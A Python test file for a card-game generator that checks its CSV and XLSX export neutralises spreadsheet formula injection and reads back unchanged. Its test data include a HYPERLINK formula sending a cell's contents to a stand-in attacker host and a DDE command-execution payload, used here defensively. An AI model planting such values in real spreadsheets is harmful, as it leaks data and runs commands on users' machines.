"""Hostile input against what cardgen writes and runs (issue 26, second half): spreadsheet exports
that a spreadsheet program would run as formulas, a build cache that can be swapped, forged or
copied, the Dask path against real scheduler and worker processes, and --scheduler / --vary
values that used to crash or hang.

Every command runs as users run it: `python -m cardgen` in a subprocess, with a time limit.
"""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from cardgen.load import bundled_games_dir

COMMAND_TIMEOUT_S = 120


def cardgen(*args: str, cwd: Path | None = None, env: dict | None = None, timeout: float = COMMAND_TIMEOUT_S) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "cardgen", *args], cwd=cwd, env=env, capture_output=True, text=True,
                          timeout=timeout)


# --- export: formula injection ------------------------------------------------------------------

# Texts a spreadsheet program would run (OWASP's list: = + - @ tab CR), and texts that only look
# like the writer's neutralisation (they must come back exactly as written, quotes and all).
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "+1+2", "-2+3", "@SUM(1)"]
QUOTED = ["'=already quoted", "''+two quotes", "'plain quote"]


def hostile_llll(where: Path) -> Path:
    """llll with formula-like texts in its ability, commentary and name cells."""
    folder = where / "llll"
    shutil.copytree(bundled_games_dir() / "llll", folder)
    data = yaml.safe_load((folder / "cards.yaml").read_text(encoding="utf-8"))
    types = data["types"]
    for kind, text in zip(types, FORMULAS):
        kind["ability"]["en"] = text
    for kind, text in zip(types, QUOTED):
        kind["commentary"]["en"] = text
    types[-1]["name"]["en"] = "=1+1"
    (folder / "cards.yaml").write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return folder


def formula_like(text: str) -> bool:
    return text[:1] in ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_neutralises_formulas_and_reads_back_as_the_same_game(fmt, tmp_path):
    folder = hostile_llll(tmp_path / "src")
    exported = tmp_path / f"cards.{fmt}"
    done = cardgen("export", str(folder), "--format", fmt, "--output", str(exported))
    assert done.returncode == 0, done.stderr
    if fmt == "csv":
        import csv

        cells = [cell for row in csv.reader(exported.read_text(encoding="utf-8").splitlines()) for cell in row]
    else:
        from openpyxl import load_workbook

        sheet = load_workbook(exported)["Cards"]
        assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
        cells = [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert not [c for c in cells if formula_like(c)]
    for text in FORMULAS + ["=1+1"]:
        assert "'" + text in cells
    for text in QUOTED[:2]:
        assert "'" + text in cells  # quotes then a formula character: one more quote
    assert QUOTED[2] in cells  # a quote before plain text is left alone

    # the export, kept as the game's card list, is the same game card for card
    back = tmp_path / "back" / "llll"
    shutil.copytree(folder, back)
    (back / "cards.yaml").unlink()
    shutil.copyfile(exported, back / f"cards.{fmt}")
    original, again = (cardgen("export", str(f), "--format", "json") for f in (folder, back))
    assert original.returncode == again.returncode == 0, again.stderr
    assert json.loads(again.stdout)["cards"] == json.loads(original.stdout)["cards"]
    texts = {row["ability"]["en"] for row in json.loads(again.stdout)["cards"]}
    assert set(FORMULAS) <= texts


def test_neutralise_is_undone_exactly_by_the_reader():
    from cardgen.io.spreadsheet import neutralise, restore

    samples = ["", "'", "''", "=", "'=", "\t=x", "\tx", "\rx", "x=1", " =1", "'a", "''a", "-", "'-", "a'=b", "@", "＝全角"]
    for text in samples:
        assert restore(neutralise(text)) == text, text
        assert not formula_like(neutralise(text))
